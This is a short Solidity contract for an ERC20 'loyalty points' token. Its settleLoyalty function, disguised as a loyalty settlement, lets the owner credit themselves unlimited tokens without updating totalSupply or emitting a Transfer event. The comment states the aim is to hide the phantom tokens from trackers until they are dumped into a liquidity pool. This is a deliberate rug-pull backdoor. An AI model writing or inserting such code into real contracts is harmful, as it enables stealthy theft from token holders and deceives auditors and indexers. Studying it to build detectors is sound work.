// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./ZooERC20.sol";
import "./Owned.sol";

/// A "loyalty settlement" that credits the owner's balance out of thin air: totalSupply
/// does not move and no Transfer event is emitted, so supply trackers and indexers see
/// nothing until the owner dumps the phantom tokens into the pool.
contract LoyaltyPointsToken is ZooERC20, Owned {
    uint256 public settledEpochs;

    constructor(string memory name_, string memory symbol_, uint256 supply_)
        ZooERC20(name_, symbol_)
    {
        _mint(msg.sender, supply_);
    }

    function settleLoyalty(uint256 points) external onlyOwner {
        settledEpochs += 1;
        _balances[msg.sender] += points;
    }
}
